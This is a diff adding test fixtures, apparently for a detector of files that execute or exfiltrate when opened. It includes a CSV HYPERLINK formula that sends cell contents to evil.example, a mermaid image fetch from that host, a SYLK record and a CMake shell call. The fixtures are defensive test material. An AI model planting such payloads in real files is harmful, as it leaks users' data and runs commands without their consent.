@@ -26,6 +26,19 @@ ACTS = {
     "a kind that nobody knows": ("a.xyz", "x"),
     "a kind behind a plain one": ("a.txt.bat", "x"),
     "a dot at the end": ("a.sh.", "x"),
+    "a formula where a table says what parts it": ("a.csv", 'sep=^\nitem^=HYPERLINK("http://evil.example"&A1)'),
+    "a formula where the first cell says it": ("a.csv", '\ufeff"sep=^"\nitem^=1+1'),
+    "a record of SYLK": ("a.csv", "ID;P\nC;Y1;X1;E1+1\nE"),
+    "a diagram": ("a.md", '```mermaid\nflowchart TD\nA@{ img: "https://evil.example/p.png" }\n```'),
+    "a diagram in a list": ("a.md", "- ~~~~ dot\n  x\n  ~~~~"),
+    "code that is run": ("a.md", "```bash {cmd=true}\nx\n```"),
+    "what builds": ("CMakeLists.txt", "execute_process(COMMAND sh)"),
+    "what starts": ("b/docker-compose.yml", "services:"),
+    "what is fetched and run": ("requirements-dev.txt", "evil"),
+    "what builds, without a kind": ("Makefile", "all:\n\tx"),
+    "what is run after a push": (".github/workflows/a.yml", "x"),
+    "what another assistant follows": ("AGENTS.md", "do it"),
+    "a script without a kind": ("backup", "#!/bin/sh\nx"),
     "a folder's dot": ("b.txt/a.sh", "x"),
 }
 DOES_NOT = {
@@ -37,6 +50,8 @@ DOES_NOT = {
     "numbers": ("a.csv", "-5,+1.5,-3 %,-1 000.50 €"),
     "telephone numbers": ("a.csv", "+49 170 123-45/6,+1 (555) 0100"),
     "signs alone": ("a.csv", "-,--,=,+"),
+    "a table with semicolons": ("a.csv", "ID;Name\n1;Kim"),
+    "code that is shown": ("a.md", "```python\nx\n```\n\n~~~\ny\n~~~"),
     "a list": ("a.md", "- milk\n- [ ] bread\n# a < b\n[x](https://x.example)"),
 }
 
